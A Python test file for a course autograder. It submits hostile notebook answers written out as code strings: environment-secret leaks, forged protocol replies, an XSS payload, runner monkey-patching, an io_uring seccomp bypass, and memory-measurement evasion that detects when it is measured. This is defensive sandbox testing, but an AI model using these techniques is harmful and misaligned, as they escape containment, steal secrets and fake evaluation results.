"""Real attacks on the grader, through ``python -m grading autograde`` with 1 and with 2 workers.

One class holds an honest complete student, a blank "friend", a probe that looks for anything
earlier submissions left behind, and one attacker per attack.  Every attack must be contained: the
honest student and the probe keep full marks, the friend keeps 0, the attackers gain nothing, no
secret reaches any output, and the class finishes.
"""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from grading import course
from grading.tools import synthetic

NB1 = course.notebooks("01_scoring_functions")[0]
NB2 = course.notebooks("02_scoring_exercises")[0]
SECRET = "hunter2-not-for-students"

LEFTOVERS = '''
import os, glob, ctypes
found = [p for p in ["/tmp/planted", "/dev/shm/planted", "planted", "/tmp/alive"] if os.path.exists(p)]
found += ["scratch is not writable"] if not os.access(".", os.W_OK) else []
libc = ctypes.CDLL(None, use_errno=True)
found += ["System V segment"] if libc.shmget(0x5EED, 0, 0) != -1 else []
found += [f"process {p}" for p in os.listdir("/proc") if p.isdigit() and "sleeper" in open(f"/proc/{p}/cmdline", "rb").read().decode(errors="ignore")]
assert not found, f"left behind by an earlier submission: {found}"
'''

TAKEOVER = '''
import ctypes, os, struct, subprocess, sys, time
for path in ("/tmp/planted", "/dev/shm/planted", "planted"):
    open(path, "w").write("x")
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(0x5EED, 4096, 0o1666)
import io, torch
def frame(message):
    buf = io.BytesIO(); torch.save(message, buf); data = buf.getvalue()
    return struct.pack(">Q", len(data)) + data
for fd in range(0, 256):  # forge "finished" and "ready" on every descriptor this process holds
    for message in ({"finished": True, "status": 0}, {"ready": True}, {"ok": True, "stdout": "", "stderr": ""}):
        try:
            os.write(fd, frame(message))
        except OSError:
            pass
os.chmod(".", 0o500)
try:  # a process that outlives the submission (the sandbox lets no submission start one)
    subprocess.Popen([sys.executable, "-c", "import time, os\\n# sleeper\\nos.setsid()\\nwhile True:\\n    open('/tmp/alive', 'w').write('x'); time.sleep(0.05)"],
                     start_new_session=True)
except OSError:
    pass
'''

SHADOW = '''
import torch
def masked_softmax(X, valid_lens):
    return torch.zeros_like(X)
range = lambda *a, **k: []
float = lambda *a, **k: 0.0
isinstance = lambda *a, **k: True
int = lambda *a, **k: 0
bool = lambda *a, **k: True
tuple = lambda *a, **k: (2, 3, 4)
'''

IN_PLACE = '''
import torch
from torch import nn
def masked_softmax(X, valid_lens):
    """d2l's version, with -1e6 replaced by the dtype's minimum: it writes into the caller's X."""
    def _sequence_mask(X, valid_len, value=0):
        maxlen = X.size(1)
        mask = torch.arange((maxlen), dtype=torch.float32, device=X.device)[None, :] < valid_len[:, None]
        X[~mask] = value
        return X
    if valid_lens is None:
        return nn.functional.softmax(X, dim=-1)
    shape = X.shape
    if valid_lens.dim() == 1:
        valid_lens = torch.repeat_interleave(valid_lens, shape[1])
    else:
        valid_lens = valid_lens.reshape(-1)
    X = _sequence_mask(X.reshape(-1, shape[-1]), valid_lens, value=torch.finfo(X.dtype).min)
    return nn.functional.softmax(X.reshape(shape), dim=-1)
'''

# An outside tester's route: d2l's in-place answer, then up the call stack to the runner's copies of the arguments,
# each pointed back at the live argument, so that every argument compared equal to itself (4/4, unflagged).
IN_PLACE_FRAMES = IN_PLACE + '''
_d2l = masked_softmax
def masked_softmax(X, valid_lens):
    out = _d2l(X, valid_lens)
    import sys
    frame = sys._getframe(1)
    while frame is not None and "before" not in frame.f_locals and "args" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None and "before" in frame.f_locals:
        for path, t in list(frame.f_locals["tensors"].items()):
            frame.f_locals["before"][path] = t
    return out
'''
# The same answer, knowing that the final state of the arguments is now sent back: it keeps a copy of X and
# replaces the runner's report of that state with the copy, through the runner's module: code in the submission's
# process can rewrite the runner's own code there, so this route is flagged, not prevented (see README).
IN_PLACE_PATCHED = IN_PLACE + '''
_d2l = masked_softmax
def masked_softmax(X, valid_lens):
    import sys
    kept = {"a0": X.clone(), "a1": valid_lens.clone() if isinstance(valid_lens, torch.Tensor) else None}
    out = _d2l(X, valid_lens)
    for module in list(sys.modules.values()):
        runner = getattr(module, "__dict__", {}).get("Submission")
        if isinstance(runner, type) and hasattr(runner, "final_state"):
            runner.final_state = lambda self, tensors, kept=kept: {path: kept[path] for path in tensors}
    return out
'''

# A second outside tester read the arguments' final state through the tensor itself: an attribute on X, or a
# TorchFunctionMode left active, gave back an untouched copy (4/4, unflagged).
_MASK_IN_PLACE = '''
def _masked_in_place(X, valid_lens):
    lens = valid_lens.to(X.device)
    lens = lens[:, None] if lens.dim() == 1 else lens
    keep = torch.arange(X.shape[-1], device=X.device) < lens[..., None]
    orig = X.clone()
    X.masked_fill_(~keep, torch.finfo(X.dtype).min)  # the caller's X changes
    return orig, torch.softmax(X, dim=-1).masked_fill(~keep, 0.0)
'''
IN_PLACE_ATTRIBUTE = _MASK_IN_PLACE + '''
def masked_softmax(X, valid_lens):
    if valid_lens is None:
        return torch.softmax(X, dim=-1)
    orig, out = _masked_in_place(X, valid_lens)
    X.detach = lambda *a, **k: orig.detach()
    return out
'''
IN_PLACE_MODE = _MASK_IN_PLACE + '''
import torch.overrides as _overrides
_SAVED = {}
class _Keep(_overrides.TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func is torch.Tensor.detach and args and id(args[0]) in _SAVED and _SAVED[id(args[0])][0] is args[0]:
            return _SAVED[id(args[0])][1].detach()
        return func(*args, **(kwargs or {}))
_mode = []
def masked_softmax(X, valid_lens):
    if valid_lens is None:
        return torch.softmax(X, dim=-1)
    orig, out = _masked_in_place(X, valid_lens)
    _SAVED.clear()
    _SAVED[id(X)] = (X, orig)
    if not _mode:
        _mode.append(_Keep())
        _mode[0].__enter__()  # and never left
    return out
'''

LEAK = '''
import os
print(dict(os.environ))
def masked_softmax(X, valid_lens):
    raise ValueError(str(dict(os.environ)) + str(os.listdir("/")))
'''

XSS = "<script>alert('owned')</script><img src=x onerror=\"alert('owned')\"> The factor keeps the variance at 1."

WRONG_BMM = '''
import torch
A = torch.ones(2, 3)
W = torch.ones(3, 7)
matmul_shape = (2, 7)
bmm_accepts_2d = False
'''

NUMPY_DISTANCE = '''
import math
import numpy as np
import torch
from torch import nn

class DistanceAttention(nn.Module):
    """Correct values, but through a (batch, n, m, d) array of differences built with numpy."""

    def __init__(self, dropout=0.0, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        q, k = queries.detach().cpu().numpy(), keys.detach().cpu().numpy()
        diff = q[:, :, None, :] - k[:, None, :, :]
        scores = torch.as_tensor(-(diff ** 2).sum(-1) / (2 * math.sqrt(q.shape[-1])), dtype=queries.dtype, device=queries.device)
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
'''


FOUR_D = '''
import math
import torch
from torch import nn

class DistanceAttention(nn.Module):
    """Correct values through the forbidden (batch, n, m, d) tensor of differences (then RESET)"""

    def __init__(self, dropout=0.0, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        diff = queries[:, :, None, :] - keys[:, None, :, :]
        scores = -(diff ** 2).sum(-1) / (2 * math.sqrt(queries.shape[-1]))
        del diff
        self.attention_weights = masked_softmax(scores, valid_lens)
        out = torch.bmm(self.dropout(self.attention_weights), values)
        for path in RESET:  # forget the peak: "5" resets the peak resident memory the kernel reports for this process
            try:
                open(path, "w").write("5")
            except OSError:
                pass
        return out
'''
# The same forbidden tensor, hidden behind "ballast": 96 MiB kept resident between calls and given back during
# each one, so that the peak above the resident memory at the start of the call is about zero.
BALLAST = FOUR_D.replace("(then RESET)", "(behind ballast)").replace("import torch\n", """import ctypes
import torch
_libc = ctypes.CDLL(None)
_ballast = [torch.ones(96 * 2**20 // 4)]
""", 1).replace("        diff = queries", """        _ballast.clear()
        _libc.malloc_trim(0)
        diff = queries""").replace("        for path in RESET:", """        _libc.malloc_trim(0)
        _ballast.append(torch.ones(96 * 2**20 // 4))
        for path in ():""")
# The forbidden tensor written in place into a buffer made resident before the call: neither the peak nor
# the faults move; the pages the call reads and writes do.  PREALLOCATE is an anonymous buffer, a shared
# file mapping (whose pages are not "anonymous"), an anonymous one in a process that then makes itself
# non-dumpable, so that its memory map cannot be read, one cut into many mappings of 512 KiB, pages of a
# library's read-only mapping, writable only while the call runs, or an anonymous buffer whose referenced
# bits the answer clears itself at the end of the call (madvise MADV_COLD or MADV_FREE).
PREALLOCATED = FOUR_D.replace("(then RESET)", "(into a buffer made before)").replace("import torch\n", """import ctypes
import mmap
import torch
def _buffer(kind, nbytes=40 * 2**20):
    if kind == "shared":
        handle = open("/tmp/buffer", "w+b")
        handle.truncate(nbytes)
        return torch.frombuffer(mmap.mmap(handle.fileno(), nbytes), dtype=torch.float32)
    if kind == "undumpable":
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
    if kind == "split":  # one block, cut into 512 KiB mappings (MADV_DONTFORK on every other piece)
        pool = mmap.mmap(-1, nbytes)
        start, libc = ctypes.addressof(ctypes.c_char.from_buffer(pool)), ctypes.CDLL(None)
        libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
        for offset in range(0, nbytes, 2**20):
            libc.madvise(start + offset, 2**19, 10)
        return torch.frombuffer(pool, dtype=torch.float32)
    if kind == "library":  # pages of a library's read-only mapping, made writable, filled, read-only again
        libc = ctypes.CDLL(None)
        libc.mprotect.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
        for line in open("/proc/self/maps"):
            span, perms, *rest = line.split()
            start, end = (int(x, 16) for x in span.split("-"))
            if perms == "r--p" and rest[-1].endswith(".so") and end - start >= nbytes:
                break
        libc.mprotect(start, nbytes, 3)
        buffer = torch.frombuffer((ctypes.c_char * nbytes).from_address(start), dtype=torch.float32)
        buffer.fill_(1.0)
        libc.mprotect(start, nbytes, 1)
        return buffer  # (the answer writes to it with the pages writable; they are read-only when it returns)
    return torch.empty(nbytes // 4)
_buf = _buffer(PREALLOCATE)
if PREALLOCATE != "library":
    _buf.fill_(1.0)
def _protect(flags):  # the library's pages: writable during the call only
    if PREALLOCATE == "library":
        ctypes.CDLL(None).mprotect(ctypes.c_void_p(_buf.data_ptr()), ctypes.c_size_t(_buf.numel() * 4), flags)
    if PREALLOCATE in ("cold", "free") and flags == 1:  # after the call: madvise clears the pages' referenced bits
        start = _buf.data_ptr() // 4096 * 4096
        ctypes.CDLL(None).madvise(ctypes.c_void_p(start), ctypes.c_size_t(_buf.numel() * 4 - 4096), 20 if PREALLOCATE == "cold" else 8)
""", 1).replace("        diff = queries[:, :, None, :] - keys[:, None, :, :]\n", """        size = queries.shape[0] * queries.shape[1] * keys.shape[1] * queries.shape[2]
        if size <= _buf.numel() and queries.dtype == torch.float32:
            _protect(3)
            diff = _buf[:size].view(queries.shape[0], queries.shape[1], keys.shape[1], queries.shape[2])
            torch.sub(queries[:, :, None, :], keys[:, None, :, :], out=diff)
        else:
            diff = queries[:, :, None, :] - keys[:, None, :, :]
""").replace("-(diff ** 2).sum(-1)", "-diff.mul_(diff).sum(-1)").replace("        del diff\n", "        del diff\n        _protect(1)\n").replace(
    "        for path in RESET:", "        for path in ():")
# The same, with the kernel doing the writing: each (m, d) block of differences goes into a file with
# os.pwrite from a small buffer, and the whole tensor is read back through a read-only mapping of that file,
# made and touched before the call (VIEW: a shared mapping of a memfd, or a private one of a file in /tmp).
KERNEL_WRITTEN = """
import math
import mmap
import os
import torch
from torch import nn
_size = 64 * 2**20
_fd = os.memfd_create("diffs") if VIEW == "shared" else os.open("/tmp/diffs", os.O_RDWR | os.O_CREAT)
os.ftruncate(_fd, _size)
for _offset in range(0, _size, 2**20):
    os.pwrite(_fd, bytes(2**20), _offset)
_view = mmap.mmap(_fd, _size, mmap.MAP_SHARED if VIEW == "shared" else mmap.MAP_PRIVATE, mmap.PROT_READ)
_touch = sum(_view[i] for i in range(0, _size, 4096))
_row_map = mmap.mmap(-1, 2**18)
_row = torch.frombuffer(_row_map, dtype=torch.float32)
_all = torch.frombuffer(_view, dtype=torch.float32)

class DistanceAttention(nn.Module):
    \"\"\"Correct values from the (batch, n, m, d) differences, written by the kernel into a read-only view.\"\"\"

    def __init__(self, dropout=0.0, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        b, n, d = queries.shape
        m = keys.shape[1]
        if b * n * m * d <= _all.numel() and m * d <= _row.numel() and queries.dtype == torch.float32:
            row, offset = _row[: m * d].view(m, d), 0
            for i in range(b):
                for j in range(n):
                    torch.sub(queries[i, j], keys[i], out=row)
                    os.pwrite(_fd, memoryview(_row_map)[: m * d * 4], offset)
                    offset += m * d * 4
            diff = _all[: b * n * m * d].view(b, n, m, d)
        else:
            diff = queries[:, :, None, :] - keys[:, None, :, :]
        scores = -torch.linalg.vector_norm(diff, dim=-1).pow(2) / (2 * math.sqrt(d))
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
"""
# An answer that knows when it is measured (its peak resident memory went down: only a reset does that) and
# then returns zeros cheaply, while every other call builds the forbidden tensor.
MEASURE_AWARE = FOUR_D.replace("(then RESET)", "(unless measured)").replace("import torch\n", "import torch\n_last_peak = [0]\n", 1).replace(
    "        diff = queries", """\
        peak = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM"))
        measured, _last_peak[0] = peak < _last_peak[0], peak
        if measured:
            self.attention_weights = queries.new_zeros(queries.shape[0], queries.shape[1], keys.shape[1])
            return queries.new_zeros(queries.shape[0], queries.shape[1], values.shape[-1])
        diff = queries""", 1).replace("        for path in RESET:", "        for path in ():")
# An answer that tells measured calls from the others by a canary page: a measured call starts with every
# page's referenced bit cleared, so the canary, touched at the end of each call, reads "Referenced: 0" then.
# It builds the forbidden tensor whenever it thinks it is not measured, and logs which path each call with
# 256 queries took; a later answer cell prints the log (kept in the instructor's copy of the notebook).
CANARY = FOUR_D.replace("(then RESET)", "(unless its canary says measured)").replace("import torch\n", """import ctypes
import mmap
import torch
_canary = mmap.mmap(-1, 13 * 4096)
_canary[0] = 1
_canary_at = "%x-" % ctypes.addressof(ctypes.c_char.from_buffer(_canary))
_paths = torch.__dict__.setdefault("canary_paths", [])  # kept where a later cell can print it
def _measured():
    found = False
    for line in open("/proc/self/smaps"):
        if line.startswith(_canary_at):
            found = True
        elif found and line.startswith("Referenced:"):
            return line.split()[1] == "0"
    return False
""", 1).replace("        diff = queries[:, :, None, :] - keys[:, None, :, :]\n", """        lean = _measured()
        if tuple(queries.shape[1:]) == (256, 128) and keys.shape[1] == 256:  # the visible check's large inputs
            _paths.append("BIG-LEAN" if lean else "BIG-FOUR-D")
        _canary[0] = 1
        if lean:
            sq = (keys * keys).sum(-1)[:, None, :] - 2 * torch.bmm(queries, keys.transpose(1, 2)) + (queries * queries).sum(-1)[:, :, None]
            self.attention_weights = masked_softmax(-sq / (2 * math.sqrt(queries.shape[-1])), valid_lens)
            return torch.bmm(self.dropout(self.attention_weights), values)
        diff = queries[:, :, None, :] - keys[:, None, :, :]
""").replace("        for path in RESET:", "        for path in ():")
CANARY_LOG = "\nprint('paths of the calls with 256 queries:', torch.canary_paths)\n"
# The plain forbidden tensor, with the answer's main thread ended (the rest of the process goes on serving the
# grader from a thread of its own): the thread-group leader is a zombie, whose /proc status has no memory
# figures, so a reading of the peak fails.  A failed reading must fail the check, not pass it.
ZOMBIE = FOUR_D.replace("(then RESET)", "(main thread ended)").replace("        for path in RESET:", "        for path in ():") + """
import ctypes as _ctypes, gc as _gc, os as _os, platform as _platform, threading as _threading, time as _time
from grading.sandboxed import protocol as _protocol

def _serve_from_a_thread():
    server = next(o for o in _gc.get_objects() if type(o).__name__ == "Submission")
    def loop():
        _time.sleep(0.3)  # the leader is gone: answer the request it was serving (this cell)
        _protocol.send(server.channel, {"ok": True, "stdout": "", "stderr": "", "figures": [], "neutralised": []})
        while True:
            try:
                request = _protocol.receive(server.channel, limit=1 << 30)
            except KeyboardInterrupt:
                continue
            if request is None or request.get("op") == "end":
                _os._exit(0)
            try:
                reply = getattr(server, "op_" + request["op"])(request)
            except BaseException as exc:
                reply = {"raised": type(exc).__name__, "message": str(exc)[:200]}
            _protocol.write_all(server.channel, _protocol.frame(reply))
    _threading.Thread(target=loop, daemon=True).start()
    _ctypes.CDLL(None).syscall(60 if _platform.machine() == "x86_64" else 93, 0)  # exit(2): this thread only

_serve_from_a_thread()
"""
# The forbidden tensor in a read-only private mapping of a file that the answer fills through another view of
# it: a read-only bind mount made in a user and mount namespace of the answer's own, which the memory measure
# would read as a library's pages.  The sandbox refuses unshare and mount; the cell prints what it got.
OWN_MOUNT = KERNEL_WRITTEN.replace(
    '_fd = os.memfd_create("diffs") if VIEW == "shared" else os.open("/tmp/diffs", os.O_RDWR | os.O_CREAT)', '''import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_history = getattr(getattr(get_ipython(), "history_manager", None), "save_thread", None)
if _history is not None:
    _history.stop()  # unshare(CLONE_NEWUSER) needs a process of one thread
_steps = [("unshare", _libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())]
os.makedirs("/tmp/rw", exist_ok=True), os.makedirs("/tmp/ro", exist_ok=True)
_steps.append(("bind", _libc.mount(b"/tmp/rw", b"/tmp/ro", None, 4096, None), ctypes.get_errno()))
_steps.append(("read-only", _libc.mount(None, b"/tmp/ro", None, 4096 | 32 | 1 | 2 | 4, None), ctypes.get_errno()))
print("own mounts:", [(what, os.strerror(errno) if code else "ok") for what, code, errno in _steps])
_fd = os.open("/tmp/rw/diffs", os.O_RDWR | os.O_CREAT)''').replace(
    '_view = mmap.mmap(_fd, _size, mmap.MAP_SHARED if VIEW == "shared" else mmap.MAP_PRIVATE, mmap.PROT_READ)',
    '_view = mmap.mmap(os.open("/tmp/ro/diffs" if _steps[-1][1] == 0 else "/tmp/rw/diffs", os.O_RDONLY), _size, mmap.MAP_PRIVATE, mmap.PROT_READ)')
assert "/tmp/ro/diffs" in OWN_MOUNT and "unshare" in OWN_MOUNT
# A reply forged by the answer's cell: small enough to be read (7.5 MB), but 2.5 million empty lists once parsed.
MANY_LISTS = """
import gc as _gc, struct as _struct
from grading.sandboxed import protocol as _protocol
_server = next(o for o in _gc.get_objects() if type(o).__name__ == "Submission")
_body = b'J{"ok":true,"stdout":"","stderr":"","figures":[],"neutralised":[],"x":[' + b"[]," * 2_500_000 + b'[]]}'
_real = _protocol.write_all
_state = {"swallow": 1}
def _write_all(fd, data):  # the cell's real reply is swallowed: the forged one stands in for it
    if fd == _server.channel and _state["swallow"]:
        _state["swallow"] = 0
        return None
    return _real(fd, data)
_protocol.write_all = _write_all
_real(_server.channel, _struct.pack(">Q", len(_body)) + _body)
"""
# An answer cell too long to scan for tampering quickly (a chain of 200 calls, each holding those before it):
# it is named in the report, and costs its author no points and the class no time.
UNSCANNED = "if False:\n    _ = f" + ("(" + "x," * 300 + ")") * 200 + "\n"
# The forbidden tensor in a buffer made resident before the call; at the end of the call io_uring's own madvise
# (IORING_OP_MADVISE, MADV_COLD) clears the buffer's referenced bits from a kernel thread that the seccomp filter
# never sees.  io_uring is refused: the answer cell fails at io_uring_setup.
IO_URING = '''
import ctypes, mmap as _mmap
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]

class _Ring:
    """A one-entry io_uring: its requests run in the kernel, past the seccomp filter."""
    def __init__(self):
        p = (ctypes.c_uint32 * 30)()
        fd = _libc.syscall(425, 4, p)  # io_uring_setup
        if fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        self.fd = fd
        sq_entries, cq_entries = p[0], p[1]
        sq = p[10:20]; cq = p[20:30]  # io_sqring_offsets / io_cqring_offsets (u32 words)
        self.sq_off = dict(head=sq[0], tail=sq[1], mask=sq[2], array=sq[6])
        self.cq_off = dict(head=cq[0], tail=cq[1], mask=cq[2], cqes=cq[5])
        ssz = sq[6] + sq_entries * 4
        csz = cq[5] + cq_entries * 16
        sz = max(ssz, csz)
        PROT, FLAGS = 3, 1 | 0x8000  # RW, MAP_SHARED | MAP_POPULATE
        self.sq = _libc.mmap(None, sz, PROT, FLAGS, fd, 0)
        self.cq = self.sq  # IORING_FEAT_SINGLE_MMAP
        self.sqes = _libc.mmap(None, sq_entries * 64, PROT, FLAGS, fd, 0x10000000)
        self.mask = ctypes.c_uint32.from_address(self.sq + sq[2]).value
        self.cmask = ctypes.c_uint32.from_address(self.cq + cq[2]).value

    def madvise(self, addr, length, advice):
        u32 = lambda base, off: ctypes.c_uint32.from_address(base + off)
        tail = u32(self.sq, self.sq_off["tail"])
        idx = tail.value & self.mask
        sqe = self.sqes + idx * 64
        ctypes.memset(sqe, 0, 64)
        ctypes.c_uint8.from_address(sqe).value = 25          # IORING_OP_MADVISE
        ctypes.c_uint64.from_address(sqe + 16).value = addr   # addr
        ctypes.c_uint32.from_address(sqe + 24).value = length # len
        ctypes.c_uint32.from_address(sqe + 28).value = advice # fadvise_advice
        u32(self.sq, self.sq_off["array"] + 4 * idx).value = idx
        tail.value = tail.value + 1
        r = _libc.syscall(426, self.fd, 1, 1, 1, None, 0)  # io_uring_enter(GETEVENTS)
        if r < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        head = u32(self.cq, self.cq_off["head"])
        cqe = self.cq + self.cq_off["cqes"] + (head.value & self.cmask) * 16
        res = ctypes.c_int32.from_address(cqe + 8).value
        head.value = head.value + 1
        return res

_ring = _Ring()
_BYTES = 32 << 20  # one (b, n, m, d) float32 tensor of the sizes the checks use
_base = _libc.mmap(None, _BYTES, 3, 0x22, -1, 0)  # private anonymous, page-aligned
ctypes.memset(_base, 1, _BYTES)  # faulted in now, before any measured call
_raw = torch.frombuffer((ctypes.c_char * _BYTES).from_address(_base), dtype=torch.uint8)


def _full_tensor(shape, dtype):
    numel = math.prod(shape)
    size = numel * torch.empty((), dtype=dtype).element_size()
    if size > _BYTES:
        return torch.empty(shape, dtype=dtype)
    return _raw[:size].view(dtype).view(shape)


class DistanceAttention(nn.Module):
    """Attention with the score -||q - k||^2 / (2 sqrt(d))."""

    def __init__(self, dropout):
        super().__init__()
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        d = queries.shape[-1]
        b, n, m = queries.shape[0], queries.shape[1], keys.shape[1]
        diff = _full_tensor((b, n, m, d), queries.dtype)  # the whole (batch, n, m, d) tensor
        torch.sub(queries[:, :, None, :], keys[:, None, :, :], out=diff)
        diff.pow_(2)
        scores = -diff.sum(-1) / (2 * math.sqrt(d))
        _ring.madvise(_base, _BYTES, 20)  # MADV_COLD through io_uring: the seccomp filter never sees it
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
'''
# The forbidden tensor written into a buffer made resident before the call, which is then given back 256 KiB at a
# time (MADV_DONTNEED), each piece replaced at once by pages of a library mapped read-only: the resident memory
# never rises, the faults are 1/16 of the tensor, and the dropped buffer leaves smaps.  What the process gives
# back of its own (anonymous, shared) memory during a call counts.
GIVE_BACK = '''
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_BYTES = 32 << 20  # one (b, n, m, d) float32 tensor of the sizes the checks use
_pool = []
for _ in range(8):  # made and faulted in now, in the answer cell, outside any measured call
    _a = _libc.mmap(None, _BYTES, 3, 0x22, -1, 0)
    ctypes.memset(_a, 1, _BYTES)
    _pool.append(_a)
_lib = os.path.join(os.path.dirname(torch.__file__), "lib", "libtorch_cpu.so")
_lfd = os.open(_lib, os.O_RDONLY)
_lsize = os.fstat(_lfd).st_size
_lview = _libc.mmap(None, _lsize, 1, 2, _lfd, 0)  # a private read-only view of a library: "not the answer's"
_lnext = [0]


def _give_back(addr):
    """Drop the buffer's pages 256 KiB at a time, each time mapping as much of the library (16 pages per fault)."""
    chunk = 256 << 10
    for off in range(0, _BYTES, chunk):
        _libc.madvise(addr + off, chunk, 4)  # MADV_DONTNEED
        start = _lnext[0]
        for p in range(start, start + chunk, 65536):
            ctypes.c_char.from_address(_lview + p).value
        _lnext[0] = start + chunk


class DistanceAttention(nn.Module):
    """Attention with the score -||q - k||^2 / (2 sqrt(d))."""

    def __init__(self, dropout):
        super().__init__()
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        d = queries.shape[-1]
        b, n, m = queries.shape[0], queries.shape[1], keys.shape[1]
        size = b * n * m * d * queries.element_size()
        if size > (4 << 20) and size <= _BYTES and _pool and _lnext[0] + _BYTES < _lsize:
            addr = _pool.pop()
            raw = torch.frombuffer((ctypes.c_char * size).from_address(addr), dtype=torch.uint8)
            diff = raw.view(queries.dtype).view(b, n, m, d)  # the whole (batch, n, m, d) tensor
            torch.sub(queries[:, :, None, :], keys[:, None, :, :], out=diff)
            diff.pow_(2)
            scores = -diff.sum(-1) / (2 * math.sqrt(d))
            del diff, raw
            _give_back(addr)
        else:
            diff = queries[:, :, None, :] - keys[:, None, :, :]  # (batch, n, m, d)
            scores = -(diff ** 2).sum(-1) / (2 * math.sqrt(d))
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
'''
# An efficient answer that, in the hidden measured call, allocates 8 + 4 v MiB, v spelling one of the hidden
# inputs: the hidden check's message used to quote the number of MiB.
PEAK_SPELLS = '''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]


class DistanceAttention(nn.Module):
    """Attention with the score -||q - k||^2 / (2 sqrt(d))."""

    def __init__(self, dropout):
        super().__init__()
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        d = queries.shape[-1]
        if tuple(queries.shape) == (2, 128, 128):  # the hidden, measured call: spell one of its inputs in MiB
            v = max(0, min(63, round((float(queries[0, 0, 0]) + 3) * 10)))
            size = (8 + 4 * v) << 20
            a = _libc.mmap(None, size, 3, 0x22, -1, 0)
            ctypes.memset(a, 1, size)
            _libc.munmap(a, size)
        dots = torch.bmm(queries, keys.transpose(1, 2))
        key_norms = (keys * keys).sum(dim=-1)
        scores = (dots - 0.5 * key_norms[:, None, :]) / math.sqrt(d)
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
'''
# An efficient answer whose cell maps 64,000 files, each in a folder 1,900 levels deep: the zygote's reading of
# smaps (and a statvfs per folder) took over 10 s and read as a kernel that ignored an interrupt.  The reading
# stops at a size and time limit: the memory could not be measured, and the check fails.  Only its set-up is here:
# the answer itself is the solution's.
MANY_MAPS = '''
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_here = os.getcwd()
os.chdir("/tmp")
_depth = 0
while _depth < 1900:  # a path of ~3,800 characters: every statvfs of it walks 1,900 folders
    os.mkdir("d")
    os.chdir("d")
    _depth += 1
_made = 0
for _i in range(64000):  # one mapping per file, each file a path of its own
    _name = f"f{_i}"
    _fd = os.open(_name, os.O_CREAT | os.O_RDONLY, 0o644)
    _a = _libc.mmap(None, 4096, 1, 2, _fd, 0)
    os.close(_fd)
    if _a in (None, ctypes.c_void_p(-1).value):
        break
    _made += 1
os.chdir(_here)
print("mappings:", _made)

'''
# The forbidden tensor written (pwrite) into a file in the folder "/tmp/a<newline>b" and read through a private,
# read-only mapping of it: smaps spells the newline as the four characters \\012, and a symlink of that very name
# pointed the old path-based check at /usr, read-only.  Mappings are now judged by their device.
ESCAPED_PATH = r'''
import os as _os, mmap as _mmap, numpy as _np, warnings as _w
# A folder whose name holds a newline: /proc/<pid>/smaps shows it as "\012"; a symlink literally named
# "a\012b" points to a read-only folder, so the memory reading takes our tmpfs file for a read-only one.
_REAL = "/tmp/a\nb"
_FAKE = "/tmp/a\\012b"
_os.makedirs(_REAL, exist_ok=True)
if not _os.path.lexists(_FAKE):
    _os.symlink("../usr", _FAKE)
_SIZE = 40 << 20
_FD = _os.open(_REAL + "/d.bin", _os.O_RDWR | _os.O_CREAT, 0o600)
_zero = b"\0" * (1 << 20)
for _off in range(0, _SIZE, 1 << 20):
    _os.pwrite(_FD, _zero, _off)
_MAP = _mmap.mmap(_FD, _SIZE, flags=_mmap.MAP_PRIVATE, prot=_mmap.PROT_READ)
_BYTES = _np.frombuffer(_MAP, dtype=_np.uint8)
int(_BYTES[::4096].sum())  # fault every page in now, before any measured call


class DistanceAttention(nn.Module):
    def __init__(self, dropout):
        super().__init__()
        self.dropout = nn.Dropout(dropout)

    def differences(self, queries, keys):
        """The full (batch, n, m, d) tensor q - k, with correct values."""
        b, n, d = queries.shape
        m = keys.shape[1]
        es = queries.element_size()
        nbytes = b * n * m * d * es
